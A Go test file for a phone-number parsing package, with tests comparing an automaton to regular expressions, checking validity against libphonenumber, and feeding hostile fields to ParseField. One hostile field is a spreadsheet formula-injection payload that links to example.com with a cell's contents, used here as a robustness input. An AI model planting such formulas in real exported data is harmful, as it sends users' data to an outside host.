package lookup

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/nyaruka/phonenumbers"
)

// The automaton says of every string what the regular expression says.
func TestAutomatonIsTheExpression(t *testing.T) {
	t.Parallel()
	rng := rand.New(rand.NewPCG(1, 2))
	for _, pattern := range []string{`\d{3}`, `(?:1|23)[4-6]\d?`, `32\d{9,11}|49[1-6]\d{10}|(?:[34]0|[68]9)\d{3,13}`, `0?1{2}`} {
		a, err := compileAutomaton(pattern)
		if err != nil {
			t.Fatal(err)
		}
		whole := regexp.MustCompile(`^(?:` + pattern + `)$`)
		for range 20_000 {
			s := digits(rng, rng.IntN(14))
			if alive, ok := a.match(s); ok != whole.MatchString(s) || ok && alive != len(s) {
				t.Errorf("%s: match(%q) = %d, %v", pattern, s, alive, ok)
			}
		}
	}
}

// What we call valid libphonenumber calls valid, and the other way round, but
// for lengths that nobody uses and digits all alike.
func TestCheckIsValidNumber(t *testing.T) {
	t.Parallel()
	rng := rand.New(rand.NewPCG(3, 4))
	for _, country := range []string{"DE", "AT", "CH", "FR", "GB", "US", "NL", "IT", "ES", "PL"} {
		p := plans().regions[country].plan
		found := 0
		for range 5_000 {
			national := digits(rng, 6+rng.IntN(7))
			if len(national) > p.longest || uniform(national) {
				continue
			}
			n, err := phonenumbers.Parse("+"+p.code+national, "")
			if err != nil || phonenumbers.GetNationalSignificantNumber(n) != national {
				continue // a prefix that libphonenumber takes off
			}
			want, got := phonenumbers.IsValidNumber(n), p.check(national) == valid
			if want {
				found++
			}
			if want != got {
				t.Errorf("+%s %s: valid %v, libphonenumber says %v", p.code, national, got, want)
			}
		}
		if found < 20 {
			t.Errorf("%s: only %d valid numbers tried", country, found)
		}
	}
}

// Hostile fields cost no more than long ones and harm nothing.
func TestHostileFields(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"long":     strings.Repeat("030 23125101 / ", 2200),
		"digits":   strings.Repeat("0123456789", 3200),
		"slashes":  strings.Repeat("0/", 16_000),
		"brackets": strings.Repeat("(0)", 10_000),
		"letters":  strings.Repeat("x", 32_000),
		"emoji":    strings.Repeat("📞", 8_000),
		"marks":    strings.Repeat("\u202e\u200f", 5_000) + "030 23125101",
		"invalid":  strings.Repeat("\xff\xfe", 16_000),
		"formula":  `=HYPERLINK("http://example.com?"&A1)`,
		"context":  strings.Repeat(";phone-context=+", 2_000),
	} {
		began := time.Now()
		found := ParseField(text, "DE")
		if took := time.Since(began); took > time.Second || len(found) > maxFound {
			t.Errorf("%s: %v, %v", name, found, took)
		}
	}
}

func digits(rng *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('0' + rng.IntN(10))
	}
	return string(b)
}
